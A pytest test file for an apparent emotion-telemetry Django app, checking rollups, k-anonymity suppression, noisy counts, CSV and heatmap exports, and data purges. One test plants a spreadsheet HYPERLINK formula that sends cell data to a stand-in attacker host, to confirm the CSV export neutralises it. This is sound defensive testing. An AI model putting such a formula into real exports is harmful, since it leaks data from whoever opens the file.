"""Trends, zone breakdown, heatmap and CSV export from the released rollups, with the
display rule for buckets of fewer than K people. The arithmetic runs at `exact_counts`
(noise 0); the noise itself is tested in test_privacy_release.py and the attacks in
test_privacy_attacks.py."""
import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from apps.accounts.models import AuditEvent
from apps.telemetry.ingest import ingest
from apps.telemetry.models import EmotionEvent, MinuteRollup, RawMinute, SiteMinuteRollup, ZoneMinuteRollup
from apps.telemetry.trends import trend, trend_json
from tests.telemetry_support import release_minutes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("exact_counts")]


def send(device, ts, tracks, label="negative", camera="cam0"):
    events = [{"ts": ts.isoformat(), "camera": camera, "track": str(t), "label": label, "confidence": 0.9} for t in tracks]
    answer, _ = ingest(device, {"batch_id": str(uuid.uuid4()), "events": events})
    assert not answer["rejected"], answer


@pytest.fixture
def officer_client(tenant):
    c = APIClient()
    c.force_authenticate(tenant.officer)
    return c


def test_levels_add_up_and_count_distinct_tracks(tenant, make_device):
    other, _ = make_device(tenant.site, "board-2")
    minute = timezone.now().replace(second=0, microsecond=0) - timedelta(minutes=5)
    send(tenant.device, minute + timedelta(seconds=1), [1, 2, 3])
    send(tenant.device, minute + timedelta(seconds=2), [3, 4], label="positive")  # track 3 again
    send(other, minute + timedelta(seconds=3), [1], label="neutral")  # same track name, other device
    raw = RawMinute.objects.get(device=tenant.device)
    assert (raw.negative, raw.positive, raw.tracks) == (3, 2, 4)
    assert not MinuteRollup.objects.exists()  # nothing is published before its release
    release_minutes(tenant.device, other)
    dev = MinuteRollup.objects.get(device=tenant.device, minute=minute)
    site = SiteMinuteRollup.objects.get(site=tenant.site, minute=minute)
    zone = ZoneMinuteRollup.objects.get(zone=tenant.device.zone, minute=minute)
    assert (dev.negative, dev.positive, dev.tracks) == (3, 2, 4)
    assert (site.negative, site.neutral, site.positive, site.tracks) == (3, 1, 2, 5)
    assert (zone.negative, zone.neutral, zone.positive, zone.tracks) == (3, 1, 2, 5)


def test_trend_columns_and_k_anonymity(tenant, officer_client, settings):
    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "K_ANONYMITY": 3}
    now = timezone.now().replace(second=0, microsecond=0)
    send(tenant.device, now - timedelta(minutes=10), [1, 2])  # 2 people: hidden
    send(tenant.device, now - timedelta(minutes=9), [1, 2, 3], label="positive")
    release_minutes(tenant.device)
    res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {
        "since": (now - timedelta(minutes=59)).isoformat(), "until": (now + timedelta(minutes=1)).isoformat()})
    assert res.status_code == 200
    body = res.json()
    assert body["bucket"] == "minute" and body["k_anonymity"] == 3
    s = body["series"]
    # Every released minute of the hour is there, with or without people.
    assert len(s["t"]) == 60 and all(b - a == 60 for a, b in zip(s["t"], s["t"][1:]))
    i = s["t"].index(int((now - timedelta(minutes=9)).timestamp()))
    assert s["suppressed"] == [j != i for j in range(60)]
    assert s["negative"][i - 1 : i + 1] == [None, 0] and s["positive"][i - 1 : i + 1] == [None, 3]
    assert s["tracks"][i] == 3


@pytest.mark.parametrize("bucket", ["minute", "hour", "day"])
def test_json_built_by_the_database_matches_the_columns(tenant, make_device, officer_client, settings, bucket):
    """The API's JSON (text built by PostgreSQL) says exactly what `trend()` computes in
    Python — the CSV's and the live push's source — for rows written out of order."""
    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "K_ANONYMITY": 3}
    other, _ = make_device(tenant.site, "board-2")
    now = timezone.now().replace(second=0, microsecond=0)
    offsets = [190, 5, 61, 1500, 62, 3000, 4, 800]  # minutes ago, shuffled, some sharing an hour
    for i, minutes in enumerate(offsets):
        send(tenant.device if i % 2 else other, now - timedelta(minutes=minutes), range(1 + i % 4),
             label=("negative", "neutral", "positive")[i % 3])
    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "DP_EPSILON": 1.0}  # noisy, negative counts included
    release_minutes(tenant.device, other)
    since, until = now - timedelta(days=3), now + timedelta(minutes=1)
    columns = trend(tenant.site, since, until, bucket)
    assert json.loads(trend_json(tenant.site, since, until, bucket)) == columns
    assert columns["t"] == sorted(columns["t"]) and True in columns["suppressed"]
    if bucket == "minute":  # ~1 % of 8,640 noisy empty site-minutes pass the display rule
        assert False in columns["suppressed"]
    assert MinuteRollup.objects.filter(negative__lt=0).exists()  # stored noisy, clamped only when shown
    assert all(v is None or v >= 0 for v in columns["negative"])
    res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/",
                             {"since": since.isoformat(), "until": until.isoformat(), "bucket": bucket})
    assert res.status_code == 200 and res["Content-Type"] == "application/json"
    body = res.json()
    assert body["series"] == columns and body["bucket"] == bucket and body["site"] == tenant.site.id


def test_empty_range_is_empty_columns(tenant, officer_client):
    body = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 1}).json()
    assert body["series"] == {"t": [], "negative": [], "neutral": [], "positive": [], "tracks": [], "suppressed": []}


def test_hourly_bucket_uses_a_lower_bound_of_distinct_people(tenant, officer_client, settings):
    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "K_ANONYMITY": 3}
    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
    # The same 2 people over 5 minutes must not add up to "10 people".
    for m in range(5):
        send(tenant.device, hour + timedelta(minutes=m), [1, 2])
    release_minutes(tenant.device)
    s = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 24, "bucket": "hour"}).json()["series"]
    assert int(hour.timestamp()) in s["t"] and all(s["suppressed"])


def test_csv_export_matches_the_chart_and_is_audited(tenant, officer_client):
    now = timezone.now().replace(second=0, microsecond=0)
    send(tenant.device, now - timedelta(minutes=3), [1, 2, 3, 4])
    release_minutes(tenant.device)
    hour = {"since": (now - timedelta(minutes=59)).isoformat(), "until": (now + timedelta(minutes=1)).isoformat()}
    res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {**hour, "format": "csv"})
    assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(res.content.decode())))
    assert rows[0] == ["t", "negative", "neutral", "positive", "tracks", "suppressed"]
    row = next(r for r in rows[1:] if r[0] == (now - timedelta(minutes=3)).isoformat())
    assert row[1:] == ["4", "0", "0", "4", "False"]
    chart = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", hour).json()["series"]
    assert len(rows) - 1 == len(chart["t"]) == 60
    assert AuditEvent.objects.filter(action="data.export", details__what="trend").exists()


def test_zone_breakdown_and_heatmap(tenant, officer_client):
    now = timezone.now().replace(second=0, microsecond=0)
    send(tenant.device, now - timedelta(minutes=3), [1, 2, 3])
    send(tenant.device, now - timedelta(minutes=3), [4], label="neutral")
    release_minutes(tenant.device)
    zones = officer_client.get(f"/api/v1/sites/{tenant.site.id}/zones/").json()["zones"]
    assert zones == [{"zone": tenant.device.zone_id, "name": tenant.device.zone.name, "suppressed": False,
                      "negative": 3, "neutral": 1, "positive": 0, "negative_share": 75.0}]
    heat = officer_client.get(f"/api/v1/sites/{tenant.site.id}/heatmap/").json()
    when = now - timedelta(minutes=3)
    assert heat["negative_share"][when.isoweekday() - 1][when.hour] == 75.0
    csv_rows = officer_client.get(f"/api/v1/sites/{tenant.site.id}/heatmap/", {"format": "csv"}).content.decode().splitlines()
    assert csv_rows[0].startswith("weekday,00:00") and len(csv_rows) == 8


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tenant, officer_client):
    zone = tenant.device.zone
    zone.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    zone.save()
    send(tenant.device, timezone.now().replace(second=0, microsecond=0) - timedelta(minutes=3), [1, 2, 3])
    release_minutes(tenant.device)
    res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/zones/", {"format": "csv"})
    assert res.status_code == 200
    rows = list(csv.reader(io.StringIO(res.content.decode())))
    assert rows[1][1] == "'" + zone.name  # text, not a formula
    assert rows[1][2:6] == ["False", "3", "0", "0"]  # numbers untouched


def test_bad_range_is_400_naming_the_field(tenant, officer_client):
    url = f"/api/v1/sites/{tenant.site.id}/trend/"
    assert "bucket" in officer_client.get(url, {"bucket": "week"}).json()
    now = timezone.now()
    res = officer_client.get(url, {"since": now.isoformat(), "until": (now - timedelta(hours=1)).isoformat()})
    assert res.status_code == 400 and "since" in res.json()
    # the CSV export's errors are sentences too, never Python's ErrorDetail(...) text
    for query, sentence in (({"since": now.isoformat(), "until": now.isoformat()}, "since: must be before until"),
                            ({"hours": "abc"}, "hours: A valid number is required.")):
        for path in ("trend", "heatmap", "zones"):
            res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/{path}/", {**query, "format": "csv"})
            body = res.content.decode()
            assert res.status_code == 400 and body.splitlines() == ["detail", sentence], (path, body)


def test_rollups_list_filters_and_hides_small_rows(tenant, officer_client, settings):
    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "K_ANONYMITY": 2}
    now = timezone.now().replace(second=0, microsecond=0)
    send(tenant.device, now - timedelta(minutes=2), [1])
    send(tenant.device, now - timedelta(minutes=1), [1, 2])
    release_minutes(tenant.device)
    body = officer_client.get("/api/v1/rollups/", {"site": tenant.site.id}).json()
    assert body["count"] == 1 and body["results"][0]["tracks"] == 2


def test_retention_purge_keeps_rollups(tenant, settings):
    from apps.telemetry.tasks import purge_expired_events

    when = (timezone.now() - timedelta(days=2)).replace(second=0, microsecond=0)
    send(tenant.device, when, [1])
    release_minutes(tenant.device)
    EmotionEvent.objects.update(ts=timezone.now() - timedelta(days=45))
    RawMinute.objects.update(minute=timezone.now() - timedelta(days=45))
    assert purge_expired_events()["events"] == 1  # 45 days ago has no day partition: deleted from DEFAULT
    assert not EmotionEvent.objects.exists() and not RawMinute.objects.exists()
    assert SiteMinuteRollup.objects.get(site=tenant.site, minute=when).negative == 1
